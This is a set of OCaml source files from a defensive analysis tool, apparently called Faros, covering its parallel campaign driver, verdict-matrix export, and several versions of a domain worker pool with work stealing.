                jr_expected_flag =
                  s.expected = Faros_corpus.Registry.Expect_flag;
                jr_verdict = Error (Printexc.to_string e);
                jr_diverged = false;
                jr_mismatch = true;
                jr_record_ticks = 0;
                jr_replay_ticks = 0;
                jr_syscalls = 0;
                jr_tainted_bytes = 0;
                jr_interned_provs = 0;
                jr_graph_nodes = 0;
                jr_graph_edges = 0;
                jr_flag_sites = 0;
                jr_slice_nodes = 0;
                jr_slice_origins = 0;
                jr_netflow_origin = false;
                jr_wall_s = 0.0;
                jr_metrics = Faros_obs.Metrics.create ();
              })
          samples promises)
  in
  let metrics = Faros_obs.Metrics.create () in
  List.iter (fun r -> Faros_obs.Metrics.merge ~into:metrics r.jr_metrics) results;
  {
    results;
    mismatches = List.filter_map (fun r -> if r.jr_mismatch then Some r.jr_id else None) results;
    workers;
    wall_s = Unix.gettimeofday () -. t0;
    metrics;
  }

let ok t = t.mismatches = []

(* -- the verdict matrix (Tables II-IV) ----------------------------------- *)

type matrix_row = {
  mr_category : string;
  mr_samples : int;
  mr_flagged : int;
  mr_clean : int;
  mr_errors : int;
  mr_timeouts : int;
  mr_mismatches : int;
}

let matrix t =
  let tbl : (string, matrix_row) Hashtbl.t = Hashtbl.create 8 in
  List.iter
    (fun r ->
      let row =
        match Hashtbl.find_opt tbl r.jr_category with
        | Some row -> row
        | None ->
          {
            mr_category = r.jr_category;
            mr_samples = 0;
            mr_flagged = 0;
            mr_clean = 0;
            mr_errors = 0;
            mr_timeouts = 0;
            mr_mismatches = 0;
          }
      in
      let bump b = if b then 1 else 0 in
      Hashtbl.replace tbl r.jr_category
        {
          row with
          mr_samples = row.mr_samples + 1;
          mr_flagged = row.mr_flagged + bump (r.jr_verdict = Flagged);
          mr_clean = row.mr_clean + bump (r.jr_verdict = Clean);
          mr_errors =
            (row.mr_errors
            + bump (match r.jr_verdict with Error _ -> true | _ -> false));
          mr_timeouts = row.mr_timeouts + bump (r.jr_verdict = Timeout);
          mr_mismatches = row.mr_mismatches + bump r.jr_mismatch;
        })
    t.results;
  Hashtbl.fold (fun _ row acc -> row :: acc) tbl []
  |> List.sort (fun a b -> compare a.mr_category b.mr_category)

(* -- export -------------------------------------------------------------- *)

let json_float f = Printf.sprintf "%.6f" f

let result_json r =
  Printf.sprintf
    {|{"id":"%s","family":"%s","category":"%s","expected":"%s","verdict":"%s","detail":"%s","diverged":%b,"mismatch":%b,"record_ticks":%d,"replay_ticks":%d,"syscalls":%d,"tainted_bytes":%d,"interned_provs":%d,"graph_nodes":%d,"graph_edges":%d,"flag_sites":%d,"slice_nodes":%d,"slice_origins":%d,"netflow_origin":%b,"wall_s":%s}|}
    (Faros_obs.Json.escape r.jr_id)
    (Faros_obs.Json.escape r.jr_family)
    (Faros_obs.Json.escape r.jr_category)
    (if r.jr_expected_flag then "flag" else "clean")
    (verdict_name r.jr_verdict)
    (Faros_obs.Json.escape (verdict_detail r.jr_verdict))
    r.jr_diverged r.jr_mismatch r.jr_record_ticks r.jr_replay_ticks
    r.jr_syscalls r.jr_tainted_bytes r.jr_interned_provs r.jr_graph_nodes
    r.jr_graph_edges r.jr_flag_sites r.jr_slice_nodes r.jr_slice_origins
    r.jr_netflow_origin
    (json_float r.jr_wall_s)

let matrix_row_json row =
  Printf.sprintf
    {|{"category":"%s","samples":%d,"flagged":%d,"clean":%d,"errors":%d,"timeouts":%d,"mismatches":%d}|}
    (Faros_obs.Json.escape row.mr_category)
    row.mr_samples row.mr_flagged row.mr_clean row.mr_errors row.mr_timeouts
    row.mr_mismatches

let to_json t =
  Printf.sprintf
    {|{"campaign":{"workers":%d,"samples":%d,"mismatch_count":%d,"wall_s":%s,"matrix":[%s],"results":[%s],"mismatches":[%s],"metrics":%s}}|}
    t.workers (List.length t.results)
    (List.length t.mismatches)
    (json_float t.wall_s)
    (String.concat "," (List.map matrix_row_json (matrix t)))
    (String.concat "," (List.map result_json t.results))
    (String.concat ","
       (List.map
          (fun id -> Printf.sprintf {|"%s"|} (Faros_obs.Json.escape id))
          t.mismatches))
    (Faros_obs.Metrics.to_json t.metrics)

(* CSV field quoting: wrap and double inner quotes when the field carries
   a delimiter (error details can contain anything). *)
let csv_field s =
  if String.exists (fun c -> c = ',' || c = '"' || c = '\n') s then
    "\"" ^ String.concat "\"\"" (String.split_on_char '"' s) ^ "\""
  else s

let to_csv t =
  let header =
    "id,family,category,expected,verdict,detail,diverged,mismatch,record_ticks,replay_ticks,syscalls,tainted_bytes,interned_provs,graph_nodes,graph_edges,flag_sites,slice_nodes,slice_origins,netflow_origin,wall_s"
  in
  let row r =
    String.concat ","
      [
        csv_field r.jr_id;
        csv_field r.jr_family;
        csv_field r.jr_category;
        (if r.jr_expected_flag then "flag" else "clean");
        verdict_name r.jr_verdict;
        csv_field (verdict_detail r.jr_verdict);
        string_of_bool r.jr_diverged;
        string_of_bool r.jr_mismatch;
        string_of_int r.jr_record_ticks;
        string_of_int r.jr_replay_ticks;
        string_of_int r.jr_syscalls;
        string_of_int r.jr_tainted_bytes;
        string_of_int r.jr_interned_provs;
        string_of_int r.jr_graph_nodes;
        string_of_int r.jr_graph_edges;
        string_of_int r.jr_flag_sites;
        string_of_int r.jr_slice_nodes;
        string_of_int r.jr_slice_origins;
        string_of_bool r.jr_netflow_origin;
        json_float r.jr_wall_s;
      ]
  in
  String.concat "\n" (header :: List.map row t.results) ^ "\n"

(* -- rendering ----------------------------------------------------------- *)

let pp_matrix ppf t =
  Fmt.pf ppf "%-36s %8s %8s %8s %7s %8s %10s@." "category" "samples" "flagged"
    "clean" "error" "timeout" "mismatches";
  List.iter
    (fun row ->
      Fmt.pf ppf "%-36s %8d %8d %8d %7d %8d %10d@." row.mr_category
        row.mr_samples row.mr_flagged row.mr_clean row.mr_errors
        row.mr_timeouts row.mr_mismatches)
    (matrix t)

let pp_summary ppf t =
  Fmt.pf ppf "%d samples, %d mismatches@." (List.length t.results)
    (List.length t.mismatches);
  List.iter (Fmt.pf ppf "  mismatch: %s@.") t.mismatches
