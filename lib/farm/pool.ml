(* A fixed-size domain worker pool.

   N worker domains share one mutex-and-condition job queue.  Jobs are
   closures; submitting one returns a promise fulfilled with the job's
   value or, if the job raised, its exception — a raising job never takes
   its worker down, which is the isolation property the campaign driver
   builds on.

   Shutdown is graceful by construction: workers keep popping until the
   queue is empty even after [shutdown] flips the accepting flag, so every
   promise submitted before shutdown is fulfilled before the domains are
   joined.

   Telemetry: each spawned domain keeps its own stat record (jobs run,
   busy and idle nanoseconds) written only by that domain, and the queue
   tracks its peak depth — the direct instruments for "why does -j4 sit
   at 1.02x" (all idle: jobs too short / too few; all busy: real work,
   look at the profiler).  Read the stats after {!shutdown} for exact
   values; jobs receive their worker's index so the campaign driver can
   label per-job artifacts with the worker that produced them.

   No dependencies beyond the OCaml 5 stdlib ([Domain], [Mutex],
   [Condition]) and [Unix.gettimeofday] for the busy/idle clocks. *)

type worker_stat = {
  mutable ws_jobs : int;  (* jobs completed by this worker *)
  mutable ws_busy_ns : int;  (* time inside job bodies *)
  mutable ws_idle_ns : int;  (* time waiting on the queue *)
}

type t = {
  mutex : Mutex.t;
  work_available : Condition.t;  (* signalled on submit and on shutdown *)
  jobs : (int -> unit) Queue.t;  (* jobs take the running worker's index *)
  mutable accepting : bool;  (* false once shutdown has begun *)
  mutable domains : unit Domain.t list;
  workers : int;
  stats : worker_stat array;  (* one slot per spawned domain *)
  mutable peak_depth : int;  (* deepest the queue has been *)
}

type 'a state = Pending | Fulfilled of ('a, exn) result

type 'a promise = {
  p_mutex : Mutex.t;
  p_done : Condition.t;
  mutable p_state : 'a state;
}

let workers t = t.workers
let spawned t = Array.length t.stats
let peak_depth t = t.peak_depth

(* A snapshot per spawned worker, in worker-index order.  Only exact
   after {!shutdown} (the domains are joined); while workers run, the
   plain-int reads may lag by the job in flight. *)
let worker_stats t =
  Array.to_list
    (Array.map
       (fun ws ->
         { ws_jobs = ws.ws_jobs; ws_busy_ns = ws.ws_busy_ns; ws_idle_ns = ws.ws_idle_ns })
       t.stats)

(* Spawning more domains than the host has cores is actively harmful in
   OCaml 5: every minor collection is a stop-the-world handshake across
   all domains, so oversubscribed domains spend their time signalling each
   other instead of running jobs (measured: a 4-worker campaign ran ~2x
   slower than serial on a 1-core host).  Cap the domains actually spawned
   at the host's recommendation; the pool still *reports* the requested
   [workers] so campaign output stays identical either way.
   FAROS_FARM_DOMAINS overrides the cap for experiments. *)
let domain_cap () =
  match Sys.getenv_opt "FAROS_FARM_DOMAINS" with
  | Some s -> (
    match int_of_string_opt s with Some n when n >= 1 -> n | _ -> 1)
  | None -> max 1 (Domain.recommended_domain_count ())

let now_ns () = int_of_float (Unix.gettimeofday () *. 1e9)

let worker_loop t w =
  (* Replay allocates heavily in short-lived spurts; a roomier minor heap
     per domain cuts the collection (and thus cross-domain handshake)
     frequency for every worker. *)
  let g = Gc.get () in
  if g.minor_heap_size < 8 * 262144 then
    Gc.set { g with minor_heap_size = 8 * 262144 };
  let ws = t.stats.(w) in
  let rec loop () =
    let t0 = now_ns () in
    Mutex.lock t.mutex;
    while Queue.is_empty t.jobs && t.accepting do
      Condition.wait t.work_available t.mutex
    done;
    (* Non-empty: run one job.  Empty here implies shutdown with the
       queue drained: exit. *)
    match Queue.take_opt t.jobs with
    | None ->
      Mutex.unlock t.mutex;
      ws.ws_idle_ns <- ws.ws_idle_ns + (now_ns () - t0)
    | Some job ->
      Mutex.unlock t.mutex;
      let t1 = now_ns () in
      (* Queue wait — lock contention included — is idle time: the worker
         had no job to run. *)
      ws.ws_idle_ns <- ws.ws_idle_ns + (t1 - t0);
      job w;
      ws.ws_busy_ns <- ws.ws_busy_ns + (now_ns () - t1);
      ws.ws_jobs <- ws.ws_jobs + 1;
      loop ()
  in
  loop ()

let create ?(workers = 1) () =
  if workers < 1 then invalid_arg "Pool.create: workers must be >= 1";
  let spawned = min workers (domain_cap ()) in
  let t =
    {
      mutex = Mutex.create ();
      work_available = Condition.create ();
      jobs = Queue.create ();
      accepting = true;
      domains = [];
      workers;
      stats =
        Array.init spawned (fun _ ->
            { ws_jobs = 0; ws_busy_ns = 0; ws_idle_ns = 0 });
      peak_depth = 0;
    }
  in
  t.domains <- List.init spawned (fun w -> Domain.spawn (fun () -> worker_loop t w));
  t

(* [submit_indexed] is the general form: the job learns which worker ran
   it.  [submit] keeps the index-free interface. *)
let submit_indexed t f =
  let p = { p_mutex = Mutex.create (); p_done = Condition.create (); p_state = Pending } in
  let job w =
    (* The whole job body runs under an exception barrier: a raising job
       fulfills its promise with [Error] and the worker lives on. *)
    let result = match f ~worker:w with v -> Ok v | exception e -> Error e in
    Mutex.lock p.p_mutex;
    p.p_state <- Fulfilled result;
    Condition.broadcast p.p_done;
    Mutex.unlock p.p_mutex
  in
  Mutex.lock t.mutex;
  if not t.accepting then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  Queue.add job t.jobs;
  if Queue.length t.jobs > t.peak_depth then t.peak_depth <- Queue.length t.jobs;
  Condition.signal t.work_available;
  Mutex.unlock t.mutex;
  p

let submit t f = submit_indexed t (fun ~worker:_ -> f ())

let await p =
  Mutex.lock p.p_mutex;
  let rec wait () =
    match p.p_state with
    | Pending ->
      Condition.wait p.p_done p.p_mutex;
      wait ()
    | Fulfilled r -> r
  in
  let r = wait () in
  Mutex.unlock p.p_mutex;
  r

let shutdown t =
  Mutex.lock t.mutex;
  let was_accepting = t.accepting in
  t.accepting <- false;
  Condition.broadcast t.work_available;
  Mutex.unlock t.mutex;
  if was_accepting then begin
    List.iter Domain.join t.domains;
    t.domains <- []
  end

(* Run [f] over [items] on a transient pool, preserving input order. *)
let map ?workers f items =
  let pool = create ?workers () in
  Fun.protect
    ~finally:(fun () -> shutdown pool)
    (fun () ->
      let promises = List.map (fun x -> submit pool (fun () -> f x)) items in
      List.map await promises)
