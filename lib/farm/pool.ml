(* A fixed-size domain worker pool.

   N worker domains share one mutex-and-condition job queue.  Jobs are
   closures; submitting one returns a promise fulfilled with the job's
   value or, if the job raised, its exception — a raising job never takes
   its worker down, which is the isolation property the campaign driver
   builds on.

   Shutdown is graceful by construction: workers keep popping until the
   queue is empty even after [shutdown] flips the accepting flag, so every
   promise submitted before shutdown is fulfilled before the domains are
   joined.

   No dependencies beyond the OCaml 5 stdlib ([Domain], [Mutex],
   [Condition]). *)

type t = {
  mutex : Mutex.t;
  work_available : Condition.t;  (* signalled on submit and on shutdown *)
  jobs : (unit -> unit) Queue.t;
  mutable accepting : bool;  (* false once shutdown has begun *)
  mutable domains : unit Domain.t list;
  workers : int;
}

type 'a state = Pending | Fulfilled of ('a, exn) result

type 'a promise = {
  p_mutex : Mutex.t;
  p_done : Condition.t;
  mutable p_state : 'a state;
}

let workers t = t.workers

(* Spawning more domains than the host has cores is actively harmful in
   OCaml 5: every minor collection is a stop-the-world handshake across
   all domains, so oversubscribed domains spend their time signalling each
   other instead of running jobs (measured: a 4-worker campaign ran ~2x
   slower than serial on a 1-core host).  Cap the domains actually spawned
   at the host's recommendation; the pool still *reports* the requested
   [workers] so campaign output stays identical either way.
   FAROS_FARM_DOMAINS overrides the cap for experiments. *)
let domain_cap () =
  match Sys.getenv_opt "FAROS_FARM_DOMAINS" with
  | Some s -> (
    match int_of_string_opt s with Some n when n >= 1 -> n | _ -> 1)
  | None -> max 1 (Domain.recommended_domain_count ())

let worker_loop t =
  (* Replay allocates heavily in short-lived spurts; a roomier minor heap
     per domain cuts the collection (and thus cross-domain handshake)
     frequency for every worker. *)
  let g = Gc.get () in
  if g.minor_heap_size < 8 * 262144 then
    Gc.set { g with minor_heap_size = 8 * 262144 };
  let rec loop () =
    Mutex.lock t.mutex;
    while Queue.is_empty t.jobs && t.accepting do
      Condition.wait t.work_available t.mutex
    done;
    (* Non-empty: run one job.  Empty here implies shutdown with the
       queue drained: exit. *)
    match Queue.take_opt t.jobs with
    | None ->
      Mutex.unlock t.mutex
    | Some job ->
      Mutex.unlock t.mutex;
      job ();
      loop ()
  in
  loop ()

let create ?(workers = 1) () =
  if workers < 1 then invalid_arg "Pool.create: workers must be >= 1";
  let t =
    {
      mutex = Mutex.create ();
      work_available = Condition.create ();
      jobs = Queue.create ();
      accepting = true;
      domains = [];
      workers;
    }
  in
  let spawned = min workers (domain_cap ()) in
  t.domains <- List.init spawned (fun _ -> Domain.spawn (fun () -> worker_loop t));
  t

let submit t f =
  let p = { p_mutex = Mutex.create (); p_done = Condition.create (); p_state = Pending } in
  let job () =
    (* The whole job body runs under an exception barrier: a raising job
       fulfills its promise with [Error] and the worker lives on. *)
    let result = match f () with v -> Ok v | exception e -> Error e in
    Mutex.lock p.p_mutex;
    p.p_state <- Fulfilled result;
    Condition.broadcast p.p_done;
    Mutex.unlock p.p_mutex
  in
  Mutex.lock t.mutex;
  if not t.accepting then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  Queue.add job t.jobs;
  Condition.signal t.work_available;
  Mutex.unlock t.mutex;
  p

let await p =
  Mutex.lock p.p_mutex;
  let rec wait () =
    match p.p_state with
    | Pending ->
      Condition.wait p.p_done p.p_mutex;
      wait ()
    | Fulfilled r -> r
  in
  let r = wait () in
  Mutex.unlock p.p_mutex;
  r

let shutdown t =
  Mutex.lock t.mutex;
  let was_accepting = t.accepting in
  t.accepting <- false;
  Condition.broadcast t.work_available;
  Mutex.unlock t.mutex;
  if was_accepting then begin
    List.iter Domain.join t.domains;
    t.domains <- []
  end

(* Run [f] over [items] on a transient pool, preserving input order. *)
let map ?workers f items =
  let pool = create ?workers () in
  Fun.protect
    ~finally:(fun () -> shutdown pool)
    (fun () ->
      let promises = List.map (fun x -> submit pool (fun () -> f x)) items in
      List.map await promises)
