(* A fixed-size domain worker pool with per-worker lanes and work
   stealing.

   Each spawned domain owns a FIFO lane of jobs; submission places jobs
   round-robin across the lanes so every worker starts with a fair
   share.  A worker that drains its own lane steals the oldest job from
   the longest remaining lane instead of going idle — that is what keeps
   the fleet busy when job lengths are wildly uneven (a 2000-connection
   netd replay next to a 10-tick micro scenario).  Steals are counted
   per worker and surfaced through {!worker_stats}.

   All lanes hang off ONE mutex and ONE condition.  Job bodies run for
   milliseconds, so a single lock is nowhere near contended, and it buys
   a simple correctness story: placement, stealing, shutdown, the
   peak-depth gauge and every worker-stat mutation happen under the same
   lock, which makes {!worker_stats} an exact point-in-time snapshot
   even while the domains are live (it locks the same mutex).  No lost
   wakeups either: [submit] signals once, and a woken worker re-scans
   every lane under the mutex before it goes back to sleep.

   Jobs are closures; submitting one returns a promise fulfilled with
   the job's value or, if the job raised, its exception — a raising job
   never takes its worker down, which is the isolation property the
   campaign driver builds on.

   Shutdown is graceful by construction: workers keep popping (and
   stealing) until every lane is empty even after [shutdown] flips the
   accepting flag, so every promise submitted before shutdown is
   fulfilled before the domains are joined.

   Determinism: the pool schedules WHERE and WHEN jobs run, never what
   they return — callers that await promises in submission order (see
   {!Campaign}) observe byte-identical output for any worker count and
   any steal interleaving.

   No dependencies beyond the OCaml 5 stdlib ([Domain], [Mutex],
   [Condition]) and [Unix.gettimeofday] for the busy/idle clocks. *)

type worker_stat = {
  mutable ws_jobs : int;  (* jobs completed by this worker *)
  mutable ws_steals : int;  (* jobs taken from another worker's lane *)
  mutable ws_busy_ns : int;  (* time inside job bodies *)
  mutable ws_idle_ns : int;  (* time waiting for work *)
}

type t = {
  mutex : Mutex.t;  (* guards lanes, flags, stats, gauges *)
  work_available : Condition.t;  (* signalled on submit and on shutdown *)
  lanes : (int -> unit) Queue.t array;  (* one FIFO lane per spawned worker *)
  mutable next_lane : int;  (* round-robin placement cursor *)
  mutable accepting : bool;  (* false once shutdown has begun *)
  mutable domains : unit Domain.t list;
  workers : int;
  stats : worker_stat array;  (* one slot per spawned domain *)
  mutable peak_depth : int;  (* deepest the lanes have been, summed *)
}

type 'a state = Pending | Fulfilled of ('a, exn) result

type 'a promise = {
  p_mutex : Mutex.t;
  p_done : Condition.t;
  mutable p_state : 'a state;
}

let workers t = t.workers
let spawned t = Array.length t.stats

let peak_depth t =
  Mutex.lock t.mutex;
  let d = t.peak_depth in
  Mutex.unlock t.mutex;
  d

(* An exact point-in-time snapshot per spawned worker, in worker-index
   order.  Safe while the domains run: every stat mutation happens under
   [t.mutex] and so does this copy. *)
let worker_stats t =
  Mutex.lock t.mutex;
  let snap =
    Array.to_list
      (Array.map
         (fun ws ->
           {
             ws_jobs = ws.ws_jobs;
             ws_steals = ws.ws_steals;
             ws_busy_ns = ws.ws_busy_ns;
             ws_idle_ns = ws.ws_idle_ns;
           })
         t.stats)
  in
  Mutex.unlock t.mutex;
  snap

(* Spawning more domains than the host has cores is actively harmful in
   OCaml 5: every minor collection is a stop-the-world handshake across
   all domains, so oversubscribed domains spend their time signalling each
   other instead of running jobs (measured: a 4-worker campaign ran ~2x
   slower than serial on a 1-core host).  Cap the domains actually spawned
   at the host's recommendation; the pool still *reports* the requested
   [workers] so campaign output stays identical either way.
   FAROS_FARM_DOMAINS overrides the cap for experiments. *)
let domain_cap () =
  match Sys.getenv_opt "FAROS_FARM_DOMAINS" with
  | Some s -> (
    match int_of_string_opt s with Some n when n >= 1 -> n | _ -> 1)
  | None -> max 1 (Domain.recommended_domain_count ())

let now_ns () = int_of_float (Unix.gettimeofday () *. 1e9)

let total_depth t =
  Array.fold_left (fun acc q -> acc + Queue.length q) 0 t.lanes

(* Pick the next job for worker [w], called with [t.mutex] held.  Own
   lane first (FIFO); otherwise steal the oldest job from the longest
   other lane, so one long tail gets spread instead of ping-ponged. *)
let pick_job t w =
  match Queue.take_opt t.lanes.(w) with
  | Some job -> Some (job, false)
  | None ->
    let victim = ref (-1) and best = ref 0 in
    Array.iteri
      (fun i q ->
        let n = Queue.length q in
        if i <> w && n > !best then begin
          victim := i;
          best := n
        end)
      t.lanes;
    if !victim < 0 then None
    else Some (Queue.take t.lanes.(!victim), true)

let worker_loop t w =
  (* Replay allocates heavily in short-lived spurts; a roomier minor heap
     per domain cuts the collection (and thus cross-domain handshake)
     frequency for every worker. *)
  let g = Gc.get () in
  if g.minor_heap_size < 8 * 262144 then
    Gc.set { g with minor_heap_size = 8 * 262144 };
  let ws = t.stats.(w) in
  let rec loop () =
    let t0 = now_ns () in
    Mutex.lock t.mutex;
    let rec take () =
      match pick_job t w with
      | Some _ as got -> got
      | None ->
        if t.accepting then begin
          Condition.wait t.work_available t.mutex;
          take ()
        end
        else None
      (* Every lane empty and shutdown begun: exit. *)
    in
    match take () with
    | None ->
      ws.ws_idle_ns <- ws.ws_idle_ns + (now_ns () - t0);
      Mutex.unlock t.mutex
    | Some (job, stolen) ->
      let t1 = now_ns () in
      (* Wait for work — lock contention included — is idle time: the
         worker had no job to run. *)
      ws.ws_idle_ns <- ws.ws_idle_ns + (t1 - t0);
      if stolen then ws.ws_steals <- ws.ws_steals + 1;
      Mutex.unlock t.mutex;
      job w;
      let t2 = now_ns () in
      Mutex.lock t.mutex;
      ws.ws_busy_ns <- ws.ws_busy_ns + (t2 - t1);
      ws.ws_jobs <- ws.ws_jobs + 1;
      Mutex.unlock t.mutex;
      loop ()
  in
  loop ()

let create ?(workers = 1) () =
  if workers < 1 then invalid_arg "Pool.create: workers must be >= 1";
  let spawned = min workers (domain_cap ()) in
  let t =
    {
      mutex = Mutex.create ();
      work_available = Condition.create ();
      lanes = Array.init spawned (fun _ -> Queue.create ());
      next_lane = 0;
      accepting = true;
      domains = [];
      workers;
      stats =
        Array.init spawned (fun _ ->
            { ws_jobs = 0; ws_steals = 0; ws_busy_ns = 0; ws_idle_ns = 0 });
      peak_depth = 0;
    }
  in
  t.domains <- List.init spawned (fun w -> Domain.spawn (fun () -> worker_loop t w));
  t

(* [submit_indexed] is the general form: the job learns which worker ran
   it.  [submit] keeps the index-free interface. *)
let submit_indexed t f =
  let p = { p_mutex = Mutex.create (); p_done = Condition.create (); p_state = Pending } in
  let job w =
    (* The whole job body runs under an exception barrier: a raising job
       fulfills its promise with [Error] and the worker lives on. *)
    let result = match f ~worker:w with v -> Ok v | exception e -> Error e in
    Mutex.lock p.p_mutex;
    p.p_state <- Fulfilled result;
    Condition.broadcast p.p_done;
    Mutex.unlock p.p_mutex
  in
  Mutex.lock t.mutex;
  if not t.accepting then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  Queue.add job t.lanes.(t.next_lane);
  t.next_lane <- (t.next_lane + 1) mod Array.length t.lanes;
  let depth = total_depth t in
  if depth > t.peak_depth then t.peak_depth <- depth;
  Condition.signal t.work_available;
  Mutex.unlock t.mutex;
  p

let submit t f = submit_indexed t (fun ~worker:_ -> f ())

let await p =
  Mutex.lock p.p_mutex;
  let rec wait () =
    match p.p_state with
    | Pending ->
      Condition.wait p.p_done p.p_mutex;
      wait ()
    | Fulfilled r -> r
  in
  let r = wait () in
  Mutex.unlock p.p_mutex;
  r

let shutdown t =
  Mutex.lock t.mutex;
  let was_accepting = t.accepting in
  t.accepting <- false;
  Condition.broadcast t.work_available;
  Mutex.unlock t.mutex;
  if was_accepting then begin
    List.iter Domain.join t.domains;
    t.domains <- []
  end

(* Run [f] over [items] on a transient pool, preserving input order. *)
let map ?workers f items =
  let pool = create ?workers () in
  Fun.protect
    ~finally:(fun () -> shutdown pool)
    (fun () ->
      let promises = List.map (fun x -> submit pool (fun () -> f x)) items in
      List.map await promises)
