(** The corpus-campaign driver: run any subset of the
    {!Faros_corpus.Registry} in parallel on a {!Pool} and aggregate the
    verdicts into the evaluation's Tables II-IV matrix.

    Each sample is one isolated job: a fresh provenance interner is
    installed on the worker domain before anything runs, the analysis is
    bounded by a tick budget and a wall-clock deadline, and the outcome
    is reduced to plain data.  A raising sample is recorded as an
    {!verdict.Error} verdict, a deadline overrun as {!verdict.Timeout} —
    neither aborts the campaign.

    Determinism: results, the mismatch list and the merged metrics
    registry are produced in submission (registry) order regardless of
    job completion order, so a campaign's output is byte-identical
    across worker counts.  (Opt-in farm telemetry — [farm_metrics] —
    adds per-worker timing gauges, which naturally vary.)

    Observability: each job carries its own span profiler and bounded
    trace collector and ships them back as plain data; the driver merges
    profiles into one fleet-wide hotspot tree, folds trace events into a
    campaign trace with the worker index as the process lane, and
    streams lifecycle/trace/series/profile/metric lines onto the unified
    JSONL {!Faros_obs.Sink} — all single-threaded, in submission
    order. *)

type verdict =
  | Flagged  (** the detector flagged an in-memory injection *)
  | Clean  (** the analysis completed without a flag *)
  | Error of string  (** the sample raised; the exception, printed *)
  | Timeout  (** the wall-clock deadline elapsed mid-analysis *)

val verdict_name : verdict -> string
(** ["flagged" | "clean" | "error" | "timeout"]. *)

val verdict_detail : verdict -> string
(** The [Error] payload; [""] for every other verdict. *)

type job_result = {
  jr_id : string;
  jr_family : string;
  jr_category : string;  (** rendered {!Faros_corpus.Registry.category} *)
  jr_expected_flag : bool;
  jr_verdict : verdict;
  jr_diverged : bool;
  jr_mismatch : bool;
      (** verdict contradicts the expectation, the replay diverged, or
          the sample errored / timed out *)
  jr_record_ticks : int;
  jr_replay_ticks : int;
  jr_tick_budget : int;
      (** the effective instruction cap: the [tick_budget] override if
          given, otherwise the scenario's own [max_ticks] *)
  jr_budget_exhausted : bool;
      (** some phase ran into the cap — the run was truncated rather than
          naturally finished, whatever the verdict says *)
  jr_syscalls : int;
  jr_tainted_bytes : int;
  jr_interned_provs : int;  (** size of this job's private interner *)
  jr_graph_nodes : int;
      (** attack-graph summary; zeros when the graph is disabled or the
          job produced no verdict *)
  jr_graph_edges : int;
  jr_flag_sites : int;
  jr_slice_nodes : int;  (** union over all whodunit slices *)
  jr_slice_origins : int;
  jr_netflow_origin : bool;  (** some slice reached a NetFlow origin *)
  jr_wall_s : float;
  jr_worker : int;
      (** pool worker index that ran the job; [-1] if unknown (a failure
          outside the job's own exception barrier) *)
  jr_metrics : Faros_obs.Metrics.t;  (** this job's private registry *)
  jr_profile : Faros_obs.Profile.t;
      (** this job's span tree; {!Faros_obs.Profile.disabled} unless the
          campaign ran with [profile:true] *)
  jr_trace : Faros_obs.Trace.event list;
      (** this job's trace events (bounded per job); empty unless a
          campaign trace or JSONL sink was requested *)
  jr_segments : string list;
      (** this job's graph segment JSONL rows ({!Faros_query.Segment}
          format); empty unless run with [graph_segments:true].  Plain
          strings — the driver (or the CLI's [--graph-out]) writes them
          per sample in submission order. *)
}

type t = {
  results : job_result list;  (** submission (registry) order *)
  mismatches : string list;  (** mismatching sample ids, submission order *)
  workers : int;  (** requested *)
  spawned : int;  (** domains actually spawned (host cap) *)
  peak_depth : int;  (** deepest the job queue has been *)
  worker_stats : Pool.worker_stat list;  (** per-worker, index order *)
  wall_s : float;
  metrics : Faros_obs.Metrics.t;  (** all job registries merged *)
  profile : Faros_obs.Profile.t;
      (** all job profiles merged, plus the driver's [farm.merge] span;
          {!Faros_obs.Profile.disabled} unless run with [profile:true] *)
}

val run :
  ?workers:int ->
  ?config:Core.Config.t ->
  ?graph:bool ->
  ?graph_segments:bool ->
  ?tick_budget:int ->
  ?deadline:float ->
  ?profile:bool ->
  ?sink:Faros_obs.Sink.t ->
  ?trace:Faros_obs.Trace.t ->
  ?farm_metrics:bool ->
  ?on_progress:(completed:int -> total:int -> job_result -> unit) ->
  Faros_corpus.Registry.sample list ->
  t
(** Run the samples on a transient pool of [workers] domains (default 1).
    [config] applies to every job; [graph] (default [true]) builds the
    per-sample attack graph and folds its slice summary into each result;
    [graph_segments] (default [false]) additionally streams each job's
    graph through a {!Faros_query.Segment} writer and ships the JSONL
    rows back in [jr_segments]; [tick_budget] overrides each scenario's
    own [max_ticks]; [deadline] is the per-job wall-clock budget in
    seconds.

    [profile] (default [false]) gives every job its own span profiler
    (spans [farm.job.setup] and [farm.job.run] wrap the whole pipeline's
    spans) and merges them all — plus the driver's [farm.merge] span —
    into the result's [profile].  [sink] (default null) receives the
    unified JSONL stream, written entirely driver-side after all jobs
    complete; [trace] (default null) receives every job's trace events
    with the worker index as [pid] and the guest pid as [tid].
    [farm_metrics] (default [false]) adds [farm.workers.*],
    [farm.worker.<i>.*], [farm.queue.peak_depth] gauges and the
    [farm.job.wall_us] histogram to the merged registry.  [on_progress]
    runs driver-side as each result is awaited, in submission order. *)

val ok : t -> bool
(** No mismatches — the [sweep] / [campaign] exit-code criterion. *)

val glob_match : pat:string -> string -> bool
(** Shell-style glob: [*] matches any run, [?] any one character. *)

val filter :
  glob:string ->
  Faros_corpus.Registry.sample list ->
  Faros_corpus.Registry.sample list
(** Keep the samples whose id matches the glob, preserving order. *)

(** One row of the verdict matrix: per-category counts. *)
type matrix_row = {
  mr_category : string;
  mr_samples : int;
  mr_flagged : int;
  mr_clean : int;
  mr_errors : int;
  mr_timeouts : int;
  mr_mismatches : int;
}

val matrix : t -> matrix_row list
(** Per-category verdict counts, sorted by category name. *)

val to_json : t -> string
(** The whole campaign as one JSON document: matrix, per-sample results,
    mismatch list, worker stats, merged metrics (and the merged profile
    when enabled). *)

val to_csv : t -> string
(** One CSV row per sample, registry order. *)

val pp_matrix : Format.formatter -> t -> unit

val pp_summary : Format.formatter -> t -> unit
(** The classic [sweep] summary: sample/mismatch counts plus one
    [mismatch: id] line per mismatch, registry order. *)

val pp_workers : Format.formatter -> t -> unit
(** The per-worker utilization breakdown: jobs, busy/idle seconds and
    busy%% per spawned worker, plus requested/spawned counts and the
    queue's peak depth. *)
