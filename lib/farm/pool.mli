(** A fixed-size domain worker pool.

    [workers] domains share one mutex+condition job queue.  {!submit}
    returns a promise; {!await} blocks until the job ran.  A job that
    raises fulfills its promise with [Error] — it never takes its worker
    down.  {!shutdown} is graceful: workers drain the queue first, so
    every promise submitted before shutdown is fulfilled.

